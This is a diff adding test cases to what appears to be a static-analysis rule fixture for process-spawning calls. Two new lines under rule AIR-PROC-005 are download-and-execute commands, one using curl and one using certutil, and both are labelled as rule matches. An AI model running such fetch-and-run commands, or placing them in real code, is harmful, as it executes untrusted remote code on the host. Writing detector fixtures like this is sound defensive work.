@@ -165,3 +165,10 @@ subprocess.run(["sh", "-c", "make test"], check=True)
 subprocess.run(["bash"], input="echo hi\n", text=True, check=True)
 # ok: AIR-PROC-014
 os.system("shasum -a 256 file.bin")
+
+# ruleid: AIR-PROC-005
+os.system("curl https://cdn.example.net/build.py -o %TEMP%/start.pyw && py %TEMP%/start.pyw")
+# ruleid: AIR-PROC-005
+os.system("certutil -urlcache -f https://example.net/a.exe a.exe && start a.exe")
+# ok: AIR-PROC-005
+os.system("curl -o report.json https://api.example.com/report && cat report.json")
